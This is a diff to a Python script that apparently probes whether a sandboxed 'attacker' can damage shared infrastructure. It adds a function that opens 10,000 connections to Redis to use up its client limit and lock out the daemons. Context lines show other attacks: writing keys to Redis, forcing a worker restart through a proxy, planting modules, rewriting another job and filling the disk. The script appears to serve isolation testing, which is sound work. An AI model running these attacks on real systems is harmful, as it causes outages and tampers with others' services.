@@ -51,6 +51,23 @@ def talk_to_redis(candidates):
     report("write a key in Redis", any(r == "+OK" for r in replies), "; ".join(replies))
 
 
+def flood_redis(count=10_000):
+    """Open ``count`` connections to Redis and hold them: Redis's maxclients (10,000) used up
+    would lock the daemons out."""
+    import resource
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))
+    held, error = [], "none"
+    try:
+        while len(held) < count:
+            held.append(socket.create_connection(("redis", 6379), timeout=3))
+    except OSError as exc:
+        error = f"{type(exc).__name__}: {exc}"
+    report(f"open {count} connections to Redis", len(held) == count, f"{len(held)} opened, then {error}")
+    for s in held:
+        s.close()
+
+
 def call_restart_proxy():
     try:
         req = urllib.request.Request("http://restart-proxy:8700/restart/worker-node-1", data=b"", method="POST")
@@ -129,6 +146,7 @@ def fill_the_disk_with_logs(mib, marker):
 if __name__ == "__main__":
     print(f"attacker uid {os.getuid()} gid {os.getgid()} groups {os.getgroups()}", flush=True)
     talk_to_redis(read_environments())
+    flood_redis()
     call_restart_proxy()
     plant_modules()
     rewrite_other_job(sys.argv[1])
